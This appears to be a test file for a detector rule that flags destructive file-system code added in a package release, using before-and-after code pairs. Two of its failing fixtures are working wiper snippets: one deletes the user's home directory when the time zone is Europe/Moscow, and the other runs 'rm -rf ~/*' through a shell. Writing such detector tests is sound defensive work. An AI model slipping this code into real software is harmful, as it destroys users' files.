// destructive-fs on small before/after pairs: what a release adds is reported; what was already
// there (under other names) or is ordinary stays silent.
import { describe } from 'vitest';
import destructiveFs from '../../../../src/classify/code/rules/destructive-fs.js';
import { codeRuleTester } from '../../../helpers/code-rule-tester.js';

/** Code both sides share, so the added code is a release's addition, not a new file. */
const OLD = 'function a0(n){return n+1}function b0(n){return a0(n)*2}';

describe('destructive-fs', () => {
  codeRuleTester(destructiveFs, {
    valid: [
      { name: 'a temporary folder', before: OLD, after: OLD + 'const fs=require("fs"),os=require("os"),path=require("path");function c(){fs.rmSync(path.join(os.tmpdir(),"x"),{recursive:true,force:true})}' },
      { name: 'a cache inside home', before: OLD, after: OLD + 'const fs=require("fs"),os=require("os"),path=require("path");var C=path.join(os.homedir(),".cache","tool");function c(){fs.rmSync(C,{recursive:true})}' },
    ],
    invalid: [
      {
        name: 'home removed behind a time-zone gate',
        before: OLD,
        after: OLD + 'function w(){if(Intl.DateTimeFormat().resolvedOptions().timeZone==="Europe/Moscow")require("fs").rmSync(require("os").homedir(),{recursive:true,force:true})}',
        findings: [{ severity: 'critical' }],
      },
      { name: 'rm -rf through a shell', before: OLD, after: OLD + 'function w(){require("child_process").execSync("rm -rf ~/*")}', findings: [{ severity: 'high' }] },
    ],
  });
});
